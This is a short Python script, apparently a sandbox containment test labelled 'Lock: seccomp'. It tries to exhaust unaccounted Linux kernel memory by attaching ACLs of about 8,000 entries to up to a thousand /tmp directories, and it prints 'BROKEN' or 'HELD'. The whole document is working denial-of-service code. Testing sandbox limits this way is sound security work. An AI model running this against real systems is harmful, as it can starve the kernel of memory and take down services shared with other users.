# Tries: memory of Linux' that counts for no process and no file system: long lists of access rights (POSIX ACLs) on folders.
# Exercise: count_params
# Lock: seccomp
import os
import struct

rows = [(1, 7, 2**32 - 1), *[(2, 7, os.getuid())] * 8180, (4, 7, 2**32 - 1), (16, 7, 2**32 - 1), (32, 7, 2**32 - 1)]
rights = struct.pack("<I", 2) + b"".join(struct.pack("<HHI", *row) for row in rows)
taken = 0
try:
    for number in range(1000):
        os.mkdir(f"/tmp/{number}")
        for name in ("access", "default"):
            os.setxattr(f"/tmp/{number}", f"system.posix_acl_{name}", rights)
            taken += len(rights)
except OSError as error:
    print(error)
print("BROKEN" if taken > 100 * 2**20 else "HELD", taken)
